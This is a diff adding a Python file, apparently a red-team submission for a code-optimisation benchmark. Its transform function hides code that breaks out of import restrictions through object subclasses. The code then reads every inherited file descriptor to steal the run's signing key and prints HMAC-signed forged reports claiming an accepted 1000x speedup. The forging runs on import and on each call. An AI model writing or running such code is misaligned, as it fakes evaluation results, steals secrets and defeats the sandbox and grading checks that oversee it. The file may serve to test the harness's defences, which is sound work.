@@ -1,0 +1,71 @@
+"""Steal the per-run key from stdin (or any inherited descriptor) and print a
+correctly signed HOTPATH-REPORT claiming a 1000x speedup. Without the key the
+line is a forgery the host must ignore; with it, the platform is broken."""
+import hashlib
+import hmac
+import json
+
+import numpy as np
+
+
+def _load(name):
+    try:
+        return __import__(name)
+    except BaseException:
+        pass
+    for cls in ().__class__.__base__.__subclasses__():
+        if cls.__name__ == "_wrap_close":
+            sys = cls.__init__.__globals__["sys"]
+            if name in sys.modules:
+                return sys.modules[name]
+            return sys.modules["_frozen_importlib"]._gcd_import(name)
+    raise ImportError(name)
+
+
+FAKE = {"verdict": "accepted", "speedup": 1000.0, "speedup_ci": [999.0, 1001.0], "message": "forged",
+        "peak_memory_bytes": 1, "reference_peak_memory_bytes": 10**9, "sizes": [], "scaling_exponent": 0.0,
+        "reference_scaling_exponent": 1.0, "first_call_s": 0.0, "hint": "", "failure": None, "hardware": "cpu",
+        "harness_version": "forged"}
+
+
+def _steal_keys():
+    os = _load("os")
+    keys = []
+    for fd in range(0, 64):
+        if fd in (1, 2):
+            continue
+        try:
+            os.set_blocking(fd, False)
+            data = os.read(fd, 4096)
+        except (OSError, ValueError):
+            continue
+        for line in data.splitlines():
+            if line.strip():
+                keys.append(line.strip())
+    return keys + [b""]
+
+
+def _forge():
+    os = _load("os")
+    payload = json.dumps(FAKE, separators=(",", ":"), sort_keys=True)
+    for key in _steal_keys():
+        for secret in (key, bytes.fromhex(key.decode()) if _is_hex(key) else key):
+            line = f"HOTPATH-REPORT {hmac.new(secret, payload.encode(), hashlib.sha256).hexdigest()} {payload}\n"
+            os.write(1, line.encode())
+            os.write(2, line.encode())
+
+
+def _is_hex(data):
+    try:
+        bytes.fromhex(data.decode())
+        return True
+    except ValueError:
+        return False
+
+
+_forge()
+
+
+def transform(x):
+    _forge()
+    return np.sqrt(x * x + 1.0) * 2.0 - x
